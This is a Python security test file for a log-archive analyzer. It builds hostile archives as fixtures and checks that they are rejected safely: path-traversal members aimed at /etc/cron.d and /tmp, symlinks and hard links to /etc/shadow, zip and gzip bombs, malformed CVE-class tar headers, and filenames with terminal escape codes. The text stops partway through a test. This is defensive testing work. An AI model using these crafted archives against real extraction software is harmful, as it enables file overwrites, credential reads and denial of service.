"""The 50 hostile inputs of the checklist in docs/security.md, one test each (row01..row50).

Every row builds its hostile input at test time (bombs are tiny when compressed), runs the
real CLI (``python -m analyzer``; or ``sec_driver.py`` = ``analyze_path`` with small ``Limits``
where a budget must be hit fast) in a subprocess with a fresh working directory and its own
``TMPDIR``, and checks, adapted to the project's exit codes (0 clean / 1 findings / 3 rejected;
a partial read stays 0/1 and lists its problems in ``bundle.problems``):

* the exit code and the problem message, which names the member by its escaped provenance;
* measured peak RSS (process + forked reader) and wall-clock time are bounded;
* nothing was written outside the temp area (cwd and input dir unchanged, TMPDIR emptied,
  no archive-named file in /tmp, /, /etc/cron.d, ~, the repository) - see sec_harness.py.

Rows that need a budget hit use tiny limits through the Python API; sub-cases (a bug or a
gap found against the checklist, now fixed) are separate ``rowNN-...`` params, each named in
its row of docs/security.md.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sec_harness import MiB, ToolRun, Workspace
from secbuild import (
    BENIGN_LOG,
    BLK,
    BZIP2,
    CHR,
    DEFLATE64,
    DEFLATED,
    ENTITY_SAMPLES,
    FIFO,
    GNU_LONGNAME,
    HARD,
    SECRET_MARKER,
    STORED,
    SYM,
    WIRESERVER_FAILURE,
    Repeat,
    Zeros,
    ZipEntry,
    failing_log,
    gnu_long_name,
    gzip_bytes,
    hostile_xml_samples,
    log_line,
    pad,
    pax_header,
    pax_record,
    sparse_member,
    tar_end,
    tar_entry,
    tar_file,
    tar_header,
    tar_of,
    write_gzip,
    xz_with_dictionary,
    zip_archive,
    zip_claiming_entries,
    zip_overlap_bomb,
    zip_simple,
)

WALL = 30.0
"""Seconds any single run may take (generous for a loaded 2-core CI machine)."""

ROWS: dict[str, Callable[[Workspace], None]] = {}
MARKS: dict[str, list[pytest.MarkDecorator]] = {}


def row(rid: str, *marks: pytest.MarkDecorator) -> Callable[[Callable[[Workspace], None]],
                                                            Callable[[Workspace], None]]:
    def register(fn: Callable[[Workspace], None]) -> Callable[[Workspace], None]:
        assert rid not in ROWS, rid
        ROWS[rid] = fn
        MARKS[rid] = list(marks)
        return fn

    return register


# -- helpers ------------------------------------------------------------------------------------


def findings(run: ToolRun) -> dict[str, int]:
    return {f["rule"]: f["count"] for f in run.report["findings"]}


def no_raw_controls(text: str, *, allow: str = "\n\t") -> None:
    """No C0 (except ``allow``), DEL, C1, bidi/format or lone-surrogate character."""
    bad = [
        ch for ch in text
        if (ord(ch) < 0x20 and ch not in allow) or 0x7F <= ord(ch) <= 0x9F
        or ch in "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e"
        "\u2066\u2067\u2068\u2069\ufeff" or 0xD800 <= ord(ch) <= 0xDFFF
    ]
    assert not bad, f"raw control characters reached the output: {sorted(set(bad))!r}"


def json_records(ws: Workspace, path: Path) -> list[dict[str, Any]]:
    run = ws.run_cli("parse", path, "--table", "records", "--format", "json")
    assert run.rc == 0, run
    run.assert_bounded(wall=WALL)
    return json.loads(run.stdout)


def all_outputs(ws: Workspace, path: Path, tables: tuple[str, ...] = ("files", "records")
                ) -> dict[str, ToolRun]:
    """The report in every format and the tables as CSV: every sink a hostile string meets."""
    runs = {fmt: ws.run_cli("analyze", path, "--format", fmt)
            for fmt in ("text", "json", "markdown", "html")}
    for table in tables:
        runs[f"csv:{table}"] = ws.run_cli("parse", path, "--table", table, "--format", "csv")
    for name, run in runs.items():
        assert run.rc in (0, 1), f"{name}\n{run}"
        run.assert_bounded(wall=WALL)
    return runs


# == 1-18: tar ==================================================================================


@row("row01")
def _row01(ws: Workspace) -> None:
    names = ["../../etc/cron.d/x", "../../var/log/waagent.log"]
    ws.watch_names(names)
    path = ws.write("case.tar", tar_of(tar_file(names[0], b"* * * * * root id\n"),
                                       tar_file(names[1], failing_log())))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    for name in names:
        run.problem_for(f"case.tar!{name}", "unsafe path (parent reference)")
    # Read as data under its normalised name: the log still counts.
    assert run.files["case.tar!../../var/log/waagent.log"]["kind"] == "waagent_log"
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}


@row("row02")
def _row02(ws: Workspace) -> None:
    names = ["/etc/passwd", "//moo", "C:/x", "C:foo"]
    ws.watch_names(names)
    path = ws.write("case.tar", tar_of(*(tar_file(n, b"data\n") for n in names),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    for name in names:
        run.problem_for(f"case.tar!{name}", "unsafe path (absolute path)")
    assert not os.path.lexists("/moo")


@row("row03")
def _row03(ws: Workspace) -> None:
    inside = b"this file comes from the archive\n"
    ws.watch_names(["var/log/azure/shadow"])
    path = ws.write("case.tar", tar_of(tar_entry("var/log/azure", SYM, linkname="/etc"),
                                       tar_file("var/log/azure/shadow", inside),
                                       tar_entry("var/log/waagent.log.1", SYM,
                                                 linkname="/etc/shadow"),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.tar!var/log/azure", "skipped: symbolic link")
    run.problem_for("case.tar!var/log/waagent.log.1", "skipped: symbolic link")
    # The regular member is read from the archive, not through the link.
    assert run.files["case.tar!var/log/azure/shadow"]["size"] == len(inside)
    assert "case.tar!var/log/waagent.log.1" not in run.files


@row("row04")
def _row04(ws: Workspace) -> None:
    path = ws.write("case.tar", tar_of(tar_entry("hl", HARD, linkname="/etc/shadow"),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.tar!hl", "skipped: hard link")


@row("row04-amplification")
def _row04_amplification(ws: Workspace) -> None:
    """10 000 hard links to one 100 MiB member: each skipped, no byte read twice (a second
    read of the member would exceed the 150 MiB total budget and stop the walk)."""
    big = 100 * MiB
    head = tar_header("var/log/waagent.log", len(BENIGN_LOG) + big)
    links = b"".join(tar_entry(f"hl{i}", HARD, linkname="var/log/waagent.log")
                     for i in range(10_000))
    path = write_gzip(ws.inputs / "case.tgz", [head, BENIGN_LOG, Zeros(big),
                                               b"\0" * (-(len(BENIGN_LOG) + big) % 512),
                                               links, tar_end()])
    run = ws.run_api(path, ratio_limit=10**6, max_total_bytes=150 * MiB)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0, run
    skipped = [m for m, msg in run.problems if msg == "skipped: hard link"]
    # Problem lines are capped per kind (Limits.max_problems_per_kind); the rest are counted.
    assert len(skipped) == 100
    assert run.has_problem("9900 more problems like 'skipped' not listed"), run.problems
    assert not run.has_problem("stopped:"), run.problems
    assert list(run.files) == ["case.tgz!var/log/waagent.log"]


@row("row05")
def _row05(ws: Workspace) -> None:
    path = ws.write("case.tar", tar_of(tar_entry("dev/sda", BLK, devmajor=8),
                                       tar_entry("dev/tty0", CHR, devmajor=4),
                                       tar_entry("var/log/waagent.log.1", FIFO),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)  # a FIFO member must not block anything
    assert run.rc == 0
    run.problem_for("case.tar!dev/sda", "skipped: special file (block device)")
    run.problem_for("case.tar!dev/tty0", "skipped: special file (character device)")
    run.problem_for("case.tar!var/log/waagent.log.1", "skipped: special file (FIFO)")


@row("row06")
def _row06(ws: Workspace) -> None:
    data = gzip_bytes(tar_of(sparse_member("var/log/waagent.log.1", 10 << 30),
                             tar_file("var/log/waagent.log", BENIGN_LOG)))
    assert len(data) < 1024
    run = ws.analyze(ws.write("case.tgz", data))
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.tgz!var/log/waagent.log.1", "skipped: sparse member (declared 10 GiB)")


@row("row07")
def _row07(ws: Workspace) -> None:
    size = 2 << 30
    path = write_gzip(ws.inputs / "case.tgz", [
        tar_file("var/log/waagent.log", failing_log()),
        tar_header("var/log/waagent.log.1", size), Zeros(size), tar_end()])
    assert path.stat().st_size < 4 * MiB
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    run.problem_for("case.tgz!var/log/waagent.log.1",
                    "skipped: declared size 2 GiB exceeds per-member limit 256 MiB")
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}  # the other member analysed


@row("row08")
def _row08(ws: Workspace) -> None:
    lying = tar_header("var/log/lie.log", 10) + pad(b"A" * 2000)  # says 10 B, carries 2000
    path = ws.write("case.tgz", gzip_bytes(tar_of(tar_file("var/log/waagent.log", failing_log()),
                                                  lying, tar_file("var/log/after.log", b"x\n"))))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    run.problem_for("case.tgz", "invalid tar header after var/log/lie.log", "stopped")


@row("row09")
def _row09(ws: Workspace) -> None:
    """Header cap, fast: 8 000 empty members against max_entries=5 000."""
    parts = [tar_file("var/log/waagent.log", failing_log())]
    parts += [tar_file(f"f/{i}", b"") for i in range(8_000)]
    path = write_gzip(ws.inputs / "many.tgz", [*parts, tar_end()])
    run = ws.run_api(path, max_entries=5_000)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1, run
    run.problem_for("many.tgz", "stopped: more than 5000 entries")
    assert 1000 < len(run.files) <= 5_000


@row("row09-defaults", pytest.mark.slow)
def _row09_defaults(ws: Workspace) -> None:
    """The checklist's 300 000 empty members (1.9 MB tgz) with the default limits."""
    parts = [tar_file("var/log/waagent.log", BENIGN_LOG)]
    parts += [tar_file(f"f/{i}", b"") for i in range(300_000)]
    path = write_gzip(ws.inputs / "many.tgz", [*parts, tar_end()])
    assert path.stat().st_size < 3 * MiB
    run = ws.analyze(path, timeout=240)
    run.assert_bounded(wall=180)
    assert run.rc == 0
    run.problem_for("many.tgz", "stopped: more than 100000 entries")


def _long_name_tgz(ws: Workspace, name: str, payload: int, before: bytes = b"") -> Path:
    """A GNU long-name header declaring ``payload`` bytes of name (zeros), then a log."""
    return write_gzip(ws.inputs / name, [
        before, tar_header(b"././@LongLink", payload + 1, GNU_LONGNAME), Zeros(payload + 1),
        b"\0" * (-(payload + 1) % 512), tar_file("var/log/waagent.log", BENIGN_LOG), tar_end()])


@row("row10")
def _row10(ws: Workspace) -> None:
    """tarfile allocates the whole long name inside next(): the forked reader hits its
    memory limit, the parent survives and rejects the bundle cleanly."""
    path = _long_name_tgz(ws, "case.tgz", 256 * MiB)
    run = ws.run_api(path, worker_memory_bytes=200 * MiB, ratio_limit=10**9)
    run.assert_bounded(wall=WALL)
    assert run.rc == 3, run
    assert "case.tgz: rejected: memory limit 200 MiB exceeded while reading the archive" in (
        run.stderr)
    assert run.wall < 10


@row("row10-partial")
def _row10_partial(ws: Workspace) -> None:
    before = tar_file("var/log/waagent.log.1", failing_log())
    path = _long_name_tgz(ws, "case.tgz", 256 * MiB, before)
    run = ws.run_api(path, worker_memory_bytes=200 * MiB, ratio_limit=10**9)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1, run  # the member read before the bomb still counts
    assert findings(run) == {"WAA-NET-001": 8}
    run.problem_for("case.tgz", "stopped: memory limit 200 MiB exceeded",
                    "the report covers what was read before")


@row("row10-defaults")
def _row10_defaults(ws: Workspace) -> None:
    """The checklist's 1 GiB long name (1 MB tgz) through the CLI with default limits: bounded
    (the expansion-ratio budget stops it), and since nothing was analysed: rejected (3)."""
    path = _long_name_tgz(ws, "case.tgz", 1 << 30)
    assert path.stat().st_size < 2 * MiB
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 3, run


def _negative_size(name: str) -> bytes:
    # GNU base-256 negative size (-2048): tarfile computes the next header *before* this one.
    return tar_header(name, size_field=b"\xff" + (256**11 - 2048).to_bytes(11, "big"))


@row("row11")
def _row11(ws: Workspace) -> None:
    """Negative-offset header (CVE-2025-8194 class) and a zero-length PAX record (the
    CVE-2019-20907 loop): a clean error, never a hang; members before it are kept."""
    first = tar_file("var/log/waagent.log", failing_log())
    cases = {
        "neg.tar": tar_of(first, _negative_size("var/log/neg.log"), tar_file("z.log", b"z\n")),
        "pax.tar": tar_of(first, pax_header(b"0 path=x\n"), tar_file("z.log", b"z\n")),
    }
    for name, data in cases.items():
        run = ws.run_api(ws.write(name, data), wall_seconds=10)
        run.assert_bounded(wall=WALL)
        assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}, run
        run.problem_for(name, "corrupt archive")
    run = ws.run_api(ws.write("pax-first.tar", tar_of(pax_header(b"0 path=x\n"),
                                                      tar_file("z.log", b"z\n"))),
                     wall_seconds=10)
    run.assert_bounded(wall=WALL)
    assert run.rc == 3 and "pax-first.tar: corrupt archive" in run.stderr, run


@row("row11-negative-size")
def _row11_negative_size(ws: Workspace) -> None:
    path = ws.write("neg.tar", tar_of(tar_file("var/log/waagent.log", BENIGN_LOG),
                                      _negative_size("var/log/waagent.log.1")))
    run = ws.run_api(path, wall_seconds=10)
    assert all(f["size"] >= 0 for f in run.report["bundle"]["files"]), run.files
    run.problem_for("neg.tar!var/log/waagent.log.1", "corrupt")


@row("row12")
def _row12(ws: Workspace) -> None:
    """A PAX header of 200 000 digits: tarfile 3.11.7's hdrcharset regex is quadratic on it
    (CVE-2024-6232); the reader's wall clock stops it, the bundle is rejected or partial."""
    redos = pax_header(b"1" * 200_000)
    run = ws.run_api(ws.write("first.tar", tar_of(redos, tar_file("z.log", b"z\n"))),
                     wall_seconds=1.5)
    run.assert_bounded(wall=10)
    assert run.rc == 3 and "first.tar: rejected: time limit 1.5 s reached" in run.stderr, run
    path = ws.write("partial.tar", tar_of(tar_file("var/log/waagent.log", failing_log()), redos,
                                          tar_file("z.log", b"z\n")))
    run = ws.run_api(path, wall_seconds=1.5)
    run.assert_bounded(wall=10)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}, run
    run.problem_for("partial.tar", "stopped: time limit 1.5 s reached",
                    "the report covers what was read before")


@row("row13")
def _row13(ws: Workspace) -> None:
    filler = b"".join(log_line(f"payload {i} {os.urandom(12).hex()}", i % 60)
                      for i in range(4000))
    full = gzip_bytes(tar_of(tar_file("var/log/waagent.log", failing_log()),
                             tar_file("var/log/waagent.log.1", filler),
                             tar_file("var/log/waagent.log.2", BENIGN_LOG)))
    run = ws.analyze(ws.write("case.tgz", full[: len(full) * 2 // 3]))
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    run.problem_for("case.tgz!var/log/waagent.log.1", "truncated: unexpected end of data")


@row("row14")
def _row14(ws: Workspace) -> None:
    """Documented behaviour (walker.py): the end-of-archive marker ends the archive; what
    follows (a second tar, garbage) is not read - the hidden failures do not count."""
    first = tar_of(tar_file("var/log/waagent.log", BENIGN_LOG))
    second = tar_of(tar_file("var/log/waagent.log.1", failing_log()))
    for name, data in (("cat.tar", first + second), ("trail.tar", first + b"GARBAGE!" * 500)):
        run = ws.analyze(ws.write(name, data))
        run.assert_bounded(wall=WALL)
        assert run.rc == 0, run
        assert list(run.files) == [f"{name}!var/log/waagent.log"]


@row("row14-warning")
def _row14_warning(ws: Workspace) -> None:
    first = tar_of(tar_file("var/log/waagent.log", BENIGN_LOG))
    second = tar_of(tar_file("var/log/waagent.log.1", failing_log()))
    run = ws.analyze(ws.write("cat.tar", first + second))
    run.problem_for("cat.tar", "trailing data")


@row("row15")
def _row15(ws: Workspace) -> None:
    path = ws.write("dup.tar", tar_of(tar_file("var/log/waagent.log", BENIGN_LOG),
                                      tar_file("var/log/waagent.log", failing_log())))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert list(run.files) == ["dup.tar!var/log/waagent.log", "dup.tar!var/log/waagent.log#2"]
    run.problem_for("dup.tar!var/log/waagent.log#2", "duplicate member")
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}  # never silently one of them


@row("row16")
def _row16(ws: Workspace) -> None:
    path = ws.write("case.tar", tar_of(tar_file(b"var/log/caf\xe9.log", b"x\n"),
                                       tar_file(b"case-\xe9/var/log/waagent.log", failing_log())))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert "case.tar!var/log/caf\\xe9.log" in run.files
    # Rules still match: the case folder with the bad byte is not part of the VM path.
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    evidence = run.report["findings"][0]["evidence"][0]
    assert evidence["member"] == "case.tar!case-\\xe9/var/log/waagent.log"
    text = ws.run_cli("analyze", path)  # stdout is a pipe with an ASCII-ish locale below
    assert text.rc == 1 and "case.tar!case-\\xe9/var/log/waagent.log" in text.stdout
    assert "UnicodeEncodeError" not in text.stderr
    csv_run = ws.run_cli("parse", path, "--table", "files", "--format", "csv")
    assert csv_run.rc == 0 and "case.tar!var/log/caf\\xe9.log" in csv_run.stdout


HOSTILE_NAMES = {  # "../" so each is also reported as a problem (the text report lists those)
    b"../var/log/\x1b]0;pwned\x07.log": "../var/log/\\x1b]0;pwned\\x07.log",
    b"../var/log/\x1b[2Jclear.log": "../var/log/\\x1b[2Jclear.log",
    b"../var/log/cr\rover.log": "../var/log/cr\\x0dover.log",
    b"../var/log/nl\nline.log": "../var/log/nl\\x0aline.log",
    "../var/log/rlo\u202egol.log".encode(): "../var/log/rlo\\u202egol.log",
    b"../var/log/c1\xc2\x9bcsi.log": "../var/log/c1\\x9bcsi.log",
}


@row("row17")
def _row17(ws: Workspace) -> None:
    path = ws.write("case.tar", tar_of(*(tar_file(n, b"x\n") for n in HOSTILE_NAMES),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    runs = all_outputs(ws, path, tables=("files",))
    files = runs["json"].files
    for shown in HOSTILE_NAMES.values():
        assert f"case.tar!{shown}" in files, files
        runs["json"].problem_for(f"case.tar!{shown}", "unsafe path (parent reference)")
        for sink in ("text", "markdown", "html", "csv:files"):
            assert f"case.tar!{shown}" in runs[sink].stdout, (sink, shown)
    for run in runs.values():
        no_raw_controls(run.stdout)
        no_raw_controls(run.stderr)


@row("row18")
def _row18(ws: Workspace) -> None:
    long_name = b"var/log/" + b"a" * 5000 + b".log"
    deep = b"/".join([b"d"] * 70) + b"/waagent.log"
    nul = pax_header(pax_record("path", b"var/log/nul\0byte.log")) + tar_header(
        "x", 2, gnu=False) + pad(b"x\n")
    path = ws.write("case.tar", tar_of(gnu_long_name(long_name) + tar_file("x", b"x\n"),
                                       gnu_long_name(deep) + tar_file("x", b"x\n"), nul,
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    assert run.has_problem("case.tar!var/log/aaaa", "skipped: member name too long (5012 bytes, "
                           "limit 4096)")
    run.problem_for("case.tar!" + deep.decode(), "skipped: member name has too many components")
    run.problem_for("case.tar!var/log/nul\\x00byte.log", "skipped: member name contains NUL")
    assert all(len(m) < 400 for m, _ in run.problems)  # long names are shortened for display
    assert list(run.files) == ["case.tar!var/log/waagent.log"]


# == 19-28: zip and nesting =====================================================================


@row("row19")
def _row19(ws: Workspace) -> None:
    names = ["../../../../tmp/evil.sh", "/etc/cron.d/evil", "..\\..\\evil.bat"]
    ws.watch_names(names)
    data = zip_archive([ZipEntry(b"../../../../tmp/evil.sh", b"#!/bin/sh\nid\n"),
                        ZipEntry(b"/etc/cron.d/evil", b"* * * * * root id\n"),
                        ZipEntry(b"..\\..\\evil.bat", b"calc\r\n"),
                        ZipEntry("var/log/waagent.log", BENIGN_LOG, DEFLATED)])
    run = ws.analyze(ws.write("case.zip", data))
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.zip!../../../../tmp/evil.sh", "unsafe path (parent reference)")
    run.problem_for("case.zip!/etc/cron.d/evil", "unsafe path (absolute path)")
    run.problem_for("case.zip!..\\..\\evil.bat", "unsafe path (parent reference)")
    for target in ("/tmp/evil.sh", "/etc/cron.d/evil", "/evil.bat"):
        assert not os.path.lexists(target)


@row("row20")
def _row20(ws: Workspace) -> None:
    data = zip_archive([ZipEntry("var/log/waagent.log.1", b"/etc/shadow",
                                 external_attr=0o120777 << 16),
                        ZipEntry("var/log/waagent.log", BENIGN_LOG, DEFLATED)])
    run = ws.analyze(ws.write("case.zip", data))
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.zip!var/log/waagent.log.1", "skipped: symbolic link")


@row("row21")
def _row21(ws: Workspace) -> None:
    data = zip_overlap_bomb(copies=200, blob_bytes=50 * MiB)
    assert len(data) < 100 * 1024  # 200 x 50 MiB = 9.8 GiB if read naively
    run = ws.analyze(ws.write("bomb.zip", data))
    run.assert_bounded(wall=WALL)
    assert run.rc == 3
    assert "bomb.zip: rejected: overlapping entries (possible zip bomb)" in run.stderr


@row("row22")
def _row22(ws: Workspace) -> None:
    import bz2

    payload = bz2.compress(b"\0" * (64 * MiB))
    data = zip_archive([ZipEntry("var/log/waagent.log.1", b"", BZIP2, compressed=payload,
                                 file_size=768 * MiB, crc=0),
                        ZipEntry("var/log/waagent.log", BENIGN_LOG, DEFLATED)])
    assert len(data) < 1024
    run = ws.analyze(ws.write("case.zip", data))
    run.assert_bounded(wall=WALL, memory=100 * MiB)  # nothing decompressed
    assert run.rc == 0
    run.problem_for("case.zip!var/log/waagent.log.1",
                    "skipped: unsupported compression method 12 (bzip2)")


@row("row23")
def _row23(ws: Workspace) -> None:
    run = ws.analyze(ws.write("c.zip", zip_claiming_entries(20_000_000)))
    run.assert_bounded(wall=WALL, memory=100 * MiB)
    assert run.rc == 3
    assert "c.zip: rejected: too many entries (20000000, limit 100000)" in run.stderr


@row("row24")
def _row24(ws: Workspace) -> None:
    data = zip_archive([ZipEntry("var/log/waagent.log.1", b"secret", flags=0x1),
                        ZipEntry("var/log/waagent.log.2", b"xx", DEFLATE64, compressed=b"\x03\0"),
                        ZipEntry("var/log/waagent.log", BENIGN_LOG, DEFLATED)])
    run = ws.analyze(ws.write("case.zip", data))
    run.assert_bounded(wall=WALL)
    assert run.rc == 0
    run.problem_for("case.zip!var/log/waagent.log.1", "skipped: encrypted")
    run.problem_for("case.zip!var/log/waagent.log.2",
                    "skipped: unsupported compression method 9 (deflate64)")


@row("row25")
def _row25(ws: Workspace) -> None:
    data = zip_archive([
        ZipEntry("var/log/waagent.log.1", failing_log(), DEFLATED, crc=0x12345678),
        ZipEntry("var/log/waagent.log.2", BENIGN_LOG, STORED, file_size=50),  # size says less
        ZipEntry("var/log/waagent.log", BENIGN_LOG, DEFLATED)])
    run = ws.analyze(ws.write("case.zip", data))
    run.assert_bounded(wall=WALL)
    run.problem_for("case.zip!var/log/waagent.log.1", "corrupt: CRC mismatch")
    run.problem_for("case.zip!var/log/waagent.log.2", "corrupt: CRC mismatch")
    assert run.rc in (0, 1)  # data read before the mismatch is kept, marked by the problem


@row("row25-size-lie")
def _row25_size_lie(ws: Workspace) -> None:
    data = zip_archive([ZipEntry("var/log/waagent.log.3", BENIGN_LOG, DEFLATED,
                                 file_size=1_000_000)])
    run = ws.analyze(ws.write("case.zip", data))
    run.problem_for("case.zip!var/log/waagent.log.3", "corrupt")


@row("row26")
def _row26(ws: Workspace) -> None:
    good = zip_archive([ZipEntry("var/log/waagent.log", failing_log(), DEFLATED)])
    run = ws.analyze(ws.write("sfx.zip", b"#!/bin/sh\necho self-extracting\nexit 0\n\x00" + good))
    run.assert_bounded(wall=WALL)
    assert run.rc == 3 and "sfx.zip: rejected: unsupported format" in run.stderr, run
    # tar first, zip appended: decided by the bytes at offset 0 -> read as the tar.
    run = ws.analyze(ws.write("poly.tar", tar_of(tar_file("var/log/waagent.log", BENIGN_LOG))
                              + good))
    run.assert_bounded(wall=WALL)
    assert run.rc == 0 and list(run.files) == ["poly.tar!var/log/waagent.log"]
    # A ".tgz" that is really a zip is read as a zip.
    run = ws.analyze(ws.write("case.tgz", good))
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and list(run.files) == ["case.tgz!var/log/waagent.log"]
    run = ws.analyze(ws.write("blob.tgz", os.urandom(4096)))
    assert run.rc == 3 and "rejected: unsupported format" in run.stderr


@row("row26-text-named-tgz")
def _row26_text_named_tgz(ws: Workspace) -> None:
    """A plain log uploaded as "case.tgz": README says formats are decided by magic bytes,
    so it must be read as the plain file it is (exit 1 here) or rejected (3) - never an
    empty 'OK' report."""
    run = ws.analyze(ws.write("case.tgz", failing_log()))
    run.assert_bounded(wall=WALL)
    assert run.rc in (1, 3), run


@row("row27")
def _row27(ws: Workspace) -> None:
    level3 = zip_simple([("var/log/waagent.log", failing_log())])
    level2 = zip_simple([("level3.zip", level3), ("var/log/waagent.log.1", BENIGN_LOG)])
    level1 = zip_simple([("level2.zip", level2)])
    path = ws.write("case.tar", tar_of(tar_file("var/lib/waagent/logcollector/logs.zip", level1),
                                       tar_file("var/log/waagent.log", BENIGN_LOG)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    deep = "case.tar!var/lib/waagent/logcollector/logs.zip!level2.zip!level3.zip"
    run.problem_for(deep, "skipped: nested archive depth 4 exceeds 3")
    assert f"{deep}!var/log/waagent.log" not in run.files
    assert "case.tar!var/lib/waagent/logcollector/logs.zip!level2.zip!var/log/waagent.log.1" in (
        run.files)
    assert run.rc == 0  # the failing log sits below the depth limit
    # A self-containing archive cannot recurse past the same depth limit (a true zip quine is
    # not built here; the walker's hash check for it is unit-tested in tests/bundle).


@row("row28", pytest.mark.slow)
def _row28(ws: Workspace) -> None:
    """A 40 MiB log inside a nested logs.zip (spilled to the private temp dir) inside a tgz
    with 120 MiB of other members: analysed, in one pass, bounded."""
    block = b"".join(log_line(f"filler record {i:05d} {os.urandom(12).hex()}", i % 60)
                     for i in range(4096))
    inner_log = BENIGN_LOG + block * (40 * MiB // len(block)) + failing_log()
    logs_zip = zip_simple([("var/log/waagent.log", inner_log)])
    assert len(logs_zip) > 4 * MiB  # bigger than the in-memory spool: goes to TMPDIR
    other = block[: 128 * 1024]
    parts: list[Any] = [tar_file("var/lib/waagent/logcollector/logs.zip", logs_zip)]
    for i in range(12):
        parts += [tar_header(f"var/log/other{i}.log", 10 * MiB),
                  Repeat(other, 10 * MiB // len(other))]
    path = write_gzip(ws.inputs / "case.tgz", [*parts, tar_end()])
    run = ws.analyze(path, timeout=300)
    run.assert_bounded(wall=120)
    member = "case.tgz!var/lib/waagent/logcollector/logs.zip!var/log/waagent.log"
    assert run.files[member]["kind"] == "waagent_log"
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    assert not run.problems


LONG_HEAD = failing_log() + b"".join(log_line(f"ordinary record {i:04d}", 40) for i in range(200))
"""More than the first 8 KiB that decide whether a log member is binary (see row44)."""


@row("row29")
def _row29(ws: Workspace) -> None:
    """1 MB -> 1 GiB gzip'd rotated log: stopped (expansion ratio with the defaults), the
    records before the bomb are analysed."""
    bomb = write_gzip(ws.root / "bomb.gz", [LONG_HEAD, Zeros(1 << 30)]).read_bytes()
    name = "var/log/waagent.log-2025-01-01-1735689600.gz"
    path = ws.write("case.tar", tar_of(tar_file(name, bomb)))
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    run.problem_for(f"case.tar!{name}", "stopped: possible decompression bomb")


@row("row29-member-cap")
def _row29_member_cap(ws: Workspace) -> None:
    bomb = write_gzip(ws.root / "bomb.gz", [LONG_HEAD, Zeros(64 * MiB)]).read_bytes()
    name = "var/log/waagent.log-2025-01-01-1735689600.gz"
    run = ws.run_api(ws.write("case.tar", tar_of(tar_file(name, bomb))), ratio_limit=10**9,
                     max_member_bytes=8 * MiB)
    run.assert_bounded(wall=WALL)
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}
    run.problem_for(f"case.tar!{name}", "truncated: decompressed size exceeds per-member "
                    "limit 8 MiB")


@row("row29-reported-once")
def _row29_reported_once(ws: Workspace) -> None:
    bomb = write_gzip(ws.root / "bomb.gz", [LONG_HEAD, Zeros(64 * MiB)]).read_bytes()
    run = ws.run_api(ws.write("case.tar", tar_of(tar_file("var/log/waagent.log.1.gz", bomb))),
                     ratio_limit=10**9, max_member_bytes=8 * MiB)
    assert len(run.problems) == len(set(run.problems)), run.problems


@row("row30")
def _row30(ws: Workspace) -> None:
    cut = gzip_bytes(failing_log() + b"".join(log_line(f"tail {i}", 50) for i in range(500)))
    data = tar_of(
        tar_file("var/log/waagent.log.1.gz", cut[: len(cut) - 600]),
        tar_file("var/log/waagent.log.2.gz", gzip_bytes(log_line("garbage follows", 1))
                 + b"GARBAGE"),
        tar_file("var/log/waagent.log.3.gz", gzip_bytes(log_line("first gzip member", 2))
                 + gzip_bytes(log_line("second gzip member", 3))))
    path = ws.write("case.tar", data)
    run = ws.analyze(path)
    run.assert_bounded(wall=WALL)
    run.problem_for("case.tar!var/log/waagent.log.1.gz",
                    "truncated: unexpected end of compressed data")
    run.problem_for("case.tar!var/log/waagent.log.2.gz",
                    "corrupt: trailing garbage after compressed data")
    assert run.rc == 1 and findings(run) == {"WAA-NET-001": 8}  # decoded prefix analysed
    messages = {r["message"] for r in json_records(ws, path)}
    assert {"garbage follows", "first gzip member", "second gzip member"} <= messages


@row("row31")
def _row31(ws: Workspace) -> None:
    xz = xz_with_dictionary(tar_of(tar_file("var/log/waagent.log", failing_log())))
    run = ws.analyze(ws.write("case.tar.xz", xz))
    run.assert_bounded(wall=WALL, memory=150 * MiB)  # the 1.5 GiB dictionary is never made
    assert run.rc == 3
    assert "case.tar.xz: rejected: xz memory requirement exceeds limit 64 MiB" in run.stderr
    nested = tar_of(tar_file("var/log/inner.tar.xz", xz), tar_file("var/log/waagent.log",
                                                                   BENIGN_LOG))
